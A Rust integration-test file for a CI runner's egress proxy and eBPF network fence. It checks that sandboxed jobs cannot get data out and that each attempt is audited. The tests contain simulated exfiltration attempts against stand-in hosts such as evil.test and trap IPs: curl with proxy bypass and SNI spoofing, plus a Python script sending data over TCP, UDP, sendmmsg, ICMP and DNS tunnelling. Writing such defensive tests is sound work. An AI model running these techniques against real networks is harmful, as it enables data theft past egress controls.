@@ -1,0 +1,389 @@
+//! `runner-agent run` with the proxy and the eBPF fence in place, attacked from inside a
+//! real sandbox as root, against the tests' own internet (DESIGN.md section 8). Every test
+//! checks both halves of the claim: nothing reached a target (trap listeners, web server
+//! and DNS server records), and an audit event recorded each attempt.
+
+use std::time::Duration;
+
+use runner_agent_tests::agent::{denials_where, describe, job_id, World};
+use runner_agent_tests::netbed::{NetBed, DNS_IP, TRAP_IPS};
+use runner_agent_tests::require_privilege;
+use serde_json::json;
+
+/// Host config body: the test DNS server upstream, `allowed.test` and its subdomains
+/// allowed, everything else denied.
+fn egress_config() -> String {
+    format!(
+        "network:\n  upstream_dns: [{DNS_IP}]\nenvironments:\n  default:\n    egress:\n      mode: enforce\n      allow:\n        - host: allowed.test\n        - host: \"*.allowed.test\"\n"
+    )
+}
+
+/// Lets packets in flight reach the recorders before they are read.
+fn settle() {
+    std::thread::sleep(Duration::from_millis(300));
+}
+
+#[test]
+fn clients_that_ignore_the_proxy_still_end_at_it_and_names_decide() {
+    require_privilege!();
+    let bed = NetBed::new().expect("net bed");
+    let world = World::in_netns(bed.host_ns(), "", &egress_config());
+    let trap = TRAP_IPS[0];
+    let job = world.job(
+        "names.yaml",
+        &format!(
+            r#"name: names
+steps:
+  - name: explicit proxy
+    run: curl -fsSk https://allowed.test/explicit && echo PASS-explicit
+  - name: ignores the proxy, https by name
+    run: curl -fsSk --noproxy '*' https://allowed.test/transparent && echo PASS-transparent
+  - name: ignores the proxy, plain http by name
+    run: curl -fsS --noproxy '*' http://api.allowed.test/plain && echo PASS-plain
+  - name: denied name through the proxy
+    run: |
+      if curl -fsSk -m 5 https://evil.test/leak1; then exit 1; fi
+      echo DENIED-proxy
+  - name: denied name, ignoring the proxy
+    run: |
+      if curl -fsSk -m 5 --noproxy '*' https://evil.test/leak2; then exit 1; fi
+      echo DENIED-dns
+  - name: allowed SNI toward an attacker's address
+    run: |
+      if curl -fsSk -m 5 --noproxy '*' --resolve allowed.test:443:{trap} https://allowed.test/leak3; then exit 1; fi
+      echo DENIED-sni
+  - name: IP literal on 443
+    run: |
+      if curl -fsSk -m 5 --noproxy '*' https://{trap}/leak4; then exit 1; fi
+      echo DENIED-literal
+"#
+        ),
+    );
+    let (output, events) = world.run_audited(&job);
+    settle();
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
+    for mark in [
+        "PASS-explicit",
+        "PASS-transparent",
+        "PASS-plain",
+        "DENIED-proxy",
+        "DENIED-dns",
+        "DENIED-sni",
+        "DENIED-literal",
+    ] {
+        assert!(stdout.contains(mark), "{mark} missing\n{}", describe(&output));
+    }
+    let paths: Vec<String> = bed.web_hits().into_iter().map(|h| h.path).collect();
+    for path in ["/explicit", "/transparent", "/plain"] {
+        assert!(paths.iter().any(|p| p == path), "{path} did not reach the server: {paths:?}");
+    }
+    assert!(!paths.iter().any(|p| p.starts_with("/leak")), "a denied request arrived: {paths:?}");
+    assert_eq!(bed.trap_hits(), vec![], "something reached a trap");
+    assert!(
+        !bed.dns_hits().iter().any(|h| h.name.contains("evil")),
+        "a denied name was asked upstream: {:?}",
+        bed.dns_hits()
+    );
+    // Each denial is in the audit log.
+    assert!(!denials_where(&events, "host", json!("evil.test")).is_empty(), "{events:#?}");
+    assert!(!denials_where(&events, "ip", json!(trap.to_string())).is_empty(), "{events:#?}");
+    let allowed = events
+        .iter()
+        .filter(|e| e["verdict"] == "allow" && e["host"] == "allowed.test")
+        .count();
+    assert!(allowed >= 2, "allowed requests not recorded: {events:#?}");
+    let id = job_id(&String::from_utf8_lossy(&output.stderr)).expect("job id");
+    assert!(events.iter().all(|e| e["job"] == json!(id)), "events of another job: {events:#?}");
+    assert!(world.leftovers(&[id]).is_empty());
+}
+
+/// Python run inside the sandbox: each attack prints `BLOCKED <name>` when the kernel or
+/// the proxy refused it, `LEAK <name>` when it seemed to get through.
+const SOCKET_ATTACKS: &str = r#"
+import ctypes, socket, struct, sys
+trap, host_side = sys.argv[1], sys.argv[2]
+leaks = 0
+def report(name, ok):
+    global leaks
+    print(("LEAK " if ok else "BLOCKED ") + name, flush=True)
+    leaks += ok
+def tcp(name, family, addr, payload=b"EXFIL secret data\r\n\r\n"):
+    s = socket.socket(family, socket.SOCK_STREAM)
+    s.settimeout(3)
+    try:
+        s.connect(addr)
+        s.sendall(payload)
+        data = s.recv(100)
+        # The proxy answers a denied request itself (403) or closes: anything else is a leak.
+        report(name, bool(data) and b" 403 " not in data and b" 400 " not in data)
+    except OSError:
+        report(name, False)
+    finally:
+        s.close()
+def udp(name, fn):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    try:
+        fn(s)
+        report(name, True)
+    except OSError:
+        report(name, False)
+    finally:
+        s.close()
+for port in (22, 25, 5432, 8080):
+    tcp("tcp-literal-%d" % port, socket.AF_INET, (trap, port))
+tcp("tcp-v4-mapped", socket.AF_INET6, ("::ffff:" + trap, 5432))
+tcp("tcp-ipv6", socket.AF_INET6, ("2001:db8::5", 443))
+tcp("host-side-ssh", socket.AF_INET, (host_side, 22))
+tcp("host-side-other", socket.AF_INET, (host_side, 9999))
+udp("udp-sendto", lambda s: s.sendto(b"exfil", (trap, 9999)))
+udp("udp-sendmsg", lambda s: s.sendmsg([b"exfil"], [], 0, (trap, 9999)))
+udp("udp-connect", lambda s: (s.connect((trap, 9999)), s.send(b"exfil")))
+# sendmmsg(2) through libc: one message to the trap.
+def sendmmsg(s):
+    libc = ctypes.CDLL(None, use_errno=True)
+    addr = struct.pack("!HH4s8x", socket.AF_INET, 9999, socket.inet_aton(trap))
+    addr = struct.pack("=H", socket.AF_INET) + addr[2:]
+    abuf = ctypes.create_string_buffer(addr, len(addr))
+    data = ctypes.create_string_buffer(b"exfil", 5)
+    class iovec(ctypes.Structure):
+        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+    class msghdr(ctypes.Structure):
+        _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.c_void_p),
+                    ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
+                    ("flags", ctypes.c_int)]
+    class mmsghdr(ctypes.Structure):
+        _fields_ = [("hdr", msghdr), ("len", ctypes.c_uint)]
+    iov = iovec(ctypes.cast(data, ctypes.c_void_p), 5)
+    msg = mmsghdr(msghdr(ctypes.cast(abuf, ctypes.c_void_p), len(addr), ctypes.cast(ctypes.pointer(iov), ctypes.c_void_p), 1, None, 0, 0), 0)
+    n = libc.sendmmsg(s.fileno(), ctypes.byref(msg), 1, 0)
+    if n < 1:
+        raise OSError(ctypes.get_errno(), "sendmmsg")
+udp("udp-sendmmsg", sendmmsg)
+try:
+    icmp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
+    icmp.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (trap, 0))
+    report("icmp", True)
+except OSError:
+    report("icmp", False)
+# DNS to a resolver of the job's choosing, over UDP and TCP, for a name not allowed.
+query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(
+    bytes([len(p)]) + p.encode() for p in "secret.exfil.evil.test".split(".")) + b"\x00\x00\x10\x00\x01"
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(3)
+try:
+    s.sendto(query, (trap, 53))
+    reply, peer = s.recvfrom(512)
+    rcode = reply[3] & 0x0F
+    answers = struct.unpack("!H", reply[6:8])[0]
+    report("dns-udp-other-server", rcode == 0 and answers > 0)
+except OSError:
+    report("dns-udp-other-server", False)
+# Over TCP: the fence sends it to the DNS filter, which must not answer the name.
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.settimeout(3)
+try:
+    s.connect((trap, 53))
+    s.sendall(struct.pack("!H", len(query)) + query)
+    reply = s.recv(600)[2:]
+    answered = len(reply) >= 8 and reply[3] & 0x0F == 0 and struct.unpack("!H", reply[6:8])[0] > 0
+    report("dns-tcp-other-server", answered)
+except OSError:
+    report("dns-tcp-other-server", False)
+finally:
+    s.close()
+sys.exit(1 if leaks else 0)
+"#;
+
+#[test]
+fn socket_level_attacks_get_nowhere_and_are_audited() {
+    require_privilege!();
+    let bed = NetBed::new().expect("net bed");
+    let world = World::in_netns(bed.host_ns(), "", &egress_config());
+    let trap = TRAP_IPS[0];
+    let job = world.job(
+        "sockets.yaml",
+        &format!(
+            "name: sockets\nsteps:\n  - name: socket attacks\n    run: |\n      host_side=$(awk '/^nameserver/ {{print $2}}' /etc/resolv.conf)\n      python3 - {trap} $host_side <<'PY'\n{}\n      PY\n",
+            SOCKET_ATTACKS
+                .lines()
+                .map(|l| format!("      {l}"))
+                .collect::<Vec<_>>()
+                .join("\n")
+        ),
+    );
+    let (output, events) = world.run_audited(&job);
+    settle();
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
+    assert!(!stdout.contains("LEAK"), "{}", describe(&output));
+    let attacks = [
+        "tcp-literal-22",
+        "tcp-literal-25",
+        "tcp-literal-5432",
+        "tcp-literal-8080",
+        "tcp-v4-mapped",
+        "tcp-ipv6",
+        "host-side-ssh",
+        "host-side-other",
+        "udp-sendto",
+        "udp-sendmsg",
+        "udp-connect",
+        "udp-sendmmsg",
+        "icmp",
+        "dns-udp-other-server",
+        "dns-tcp-other-server",
+    ];
+    for attack in attacks {
+        assert!(stdout.contains(&format!("BLOCKED {attack}\n")), "{attack} not run\n{stdout}");
+    }
+    assert_eq!(bed.trap_hits(), vec![], "something reached a trap");
+    assert!(
+        !bed.dns_hits().iter().any(|h| h.name.contains("evil")),
+        "the exfiltration name reached the DNS server: {:?}",
+        bed.dns_hits()
+    );
+    // Audit: every destination the attacks aimed at has a deny event.
+    let trap_json = json!(trap.to_string());
+    for port in [22, 25, 5432, 8080, 9999] {
+        assert!(
+            events.iter().any(|e| e["verdict"] == "deny" && e["ip"] == trap_json && e["port"] == port),
+            "no deny event for {trap}:{port}: {events:#?}"
+        );
+    }
+    assert!(
+        events.iter().any(|e| e["verdict"] == "deny" && e["ip"] == "2001:db8::5"),
+        "no deny event for IPv6: {events:#?}"
+    );
+    assert!(
+        events.iter().any(|e| e["verdict"] == "deny" && e["source"] == "ebpf" && e["port"] == 22 && e["ip"] != trap_json),
+        "no deny event for the host side: {events:#?}"
+    );
+    assert!(
+        events.iter().any(|e| e["verdict"] == "deny" && e["kind"] == "dns" && e["host"].as_str().is_some_and(|h| h.contains("evil"))),
+        "no DNS deny event: {events:#?}"
+    );
+    let icmp = events.iter().any(|e| {
+        e["verdict"] == "deny" && e["source"] == "ebpf" && e["reason"].as_str().is_some_and(|r| r.contains("sock_create"))
+    });
+    assert!(icmp, "no deny event for the ICMP socket: {events:#?}");
+    for e in events.iter().filter(|e| e["source"] == "ebpf") {
+        assert!(e["pid"].is_number() && e["comm"].is_string(), "ebpf event without process: {e}");
+    }
+    let id = job_id(&String::from_utf8_lossy(&output.stderr)).expect("job id");
+    assert!(world.leftovers(&[id]).is_empty());
+}
+
+/// The pids of the children of `parent` whose command line contains `needle`.
+fn children_with(parent: u32, needle: &str) -> Vec<u32> {
+    runner_agent_tests::agent::processes_with(needle)
+        .into_iter()
+        .filter(|pid| {
+            std::fs::read_to_string(format!("/proc/{pid}/stat"))
+                .ok()
+                .and_then(|stat| {
+                    // Fields after the command name, which is in parentheses.
+                    let rest = stat.rsplit_once(')')?.1;
+                    rest.split_whitespace().nth(1)?.parse::<u32>().ok()
+                })
+                == Some(parent)
+        })
+        .collect()
+}
+
+/// Reads the agent's stderr until it names the job; returns the job id.
+fn wait_for_job_id(stderr: &mut std::process::ChildStderr) -> String {
+    use std::io::Read;
+    let mut seen = String::new();
+    let mut byte = [0u8; 1];
+    while stderr.read(&mut byte).unwrap_or(0) == 1 {
+        seen.push(byte[0] as char);
+        if seen.ends_with('\n') {
+            if let Some(id) = job_id(&seen) {
+                return id;
+            }
+        }
+    }
+    panic!("the agent never named its job: {seen}");
+}
+
+#[test]
+fn killing_the_proxy_mid_job_leaves_the_runner_with_no_way_out() {
+    require_privilege!();
+    let bed = NetBed::new().expect("net bed");
+    let world = World::in_netns(bed.host_ns(), "", &egress_config());
+    let job = world.job(
+        "failclosed.yaml",
+        r#"name: fail-closed
+steps:
+  - name: egress until the proxy dies, then try every way out
+    run: |
+      for i in $(seq 1 100); do curl -fsS -o /dev/null http://allowed.test/before && break; sleep 0.1; done
+      # Wait until the proxy is gone (the test kills it after seeing /before).
+      for i in $(seq 1 300); do curl -s -m 1 -o /dev/null http://allowed.test/probe || break; sleep 0.1; done
+      leaks=0
+      curl -fsS -m 3 -o /dev/null http://allowed.test/after-explicit && leaks=1
+      curl -fsS -m 3 -o /dev/null --noproxy '*' http://198.51.100.10/after-direct && leaks=1
+      curl -fsSk -m 3 -o /dev/null --noproxy '*' --resolve allowed.test:443:198.51.100.10 https://allowed.test/after-tls && leaks=1
+      test $leaks = 0 && echo ALL-FAILED
+"#,
+    );
+    let mut agent = world.spawn(&job);
+    let mut stderr = agent.stderr.take().expect("stderr");
+    let id = wait_for_job_id(&mut stderr);
+    assert!(
+        runner_agent_tests::agent::wait_until(Duration::from_secs(20), || bed
+            .web_hits()
+            .iter()
+            .any(|h| h.path == "/before")),
+        "the job never reached the allowed server"
+    );
+    let proxies = children_with(agent.id(), "__egress-proxy");
+    assert_eq!(proxies.len(), 1, "expected one proxy process: {proxies:?}");
+    nix::sys::signal::kill(
+        nix::unistd::Pid::from_raw(proxies[0] as i32),
+        nix::sys::signal::Signal::SIGKILL,
+    )
+    .expect("kill the proxy");
+    let output = agent.wait_with_output().expect("agent");
+    settle();
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert!(stdout.contains("ALL-FAILED"), "{stdout}");
+    let after: Vec<String> = bed
+        .web_hits()
+        .into_iter()
+        .map(|h| h.path)
+        .filter(|p| p.starts_with("/after"))
+        .collect();
+    assert!(after.is_empty(), "traffic got out without the proxy: {after:?}");
+    assert_eq!(bed.trap_hits(), vec![]);
+    assert!(world.leftovers(&[id]).is_empty());
+}
+
+#[test]
+fn every_program_map_and_link_of_a_job_is_freed_after_it() {
+    require_privilege!();
+    let world = World::new("", "");
+    let job = world.job("short.yaml", "name: short\nsteps:\n  - run: sleep 2\n");
+    let mut agent = world.spawn(&job);
+    let mut stderr = agent.stderr.take().expect("stderr");
+    let id = wait_for_job_id(&mut stderr);
+    let pins = std::fs::read_dir("/sys/fs/bpf/runner-agent")
+        .expect("pin root")
+        .flatten()
+        .map(|e| e.path())
+        .find(|p| p.to_string_lossy().contains(&id))
+        .expect("the job's pin directory");
+    let ids = egress_ebpf::pinned_ids(&pins).expect("pinned ids");
+    assert!(!ids.programs.is_empty() && !ids.maps.is_empty() && !ids.links.is_empty(), "{ids:?}");
+    assert_eq!(egress_ebpf::still_loaded(&ids), ids, "all loaded while the job runs");
+    let status = agent.wait().expect("agent");
+    assert!(status.success());
+    // The kernel frees programs and maps after an RCU grace period: allow it a moment.
+    let freed = runner_agent_tests::agent::wait_until(Duration::from_secs(10), || {
+        let left = egress_ebpf::still_loaded(&ids);
+        left.programs.is_empty() && left.maps.is_empty() && left.links.is_empty()
+    });
+    assert!(freed, "still loaded: {:?}", egress_ebpf::still_loaded(&ids));
+    assert!(world.leftovers(&[id]).is_empty());
+}
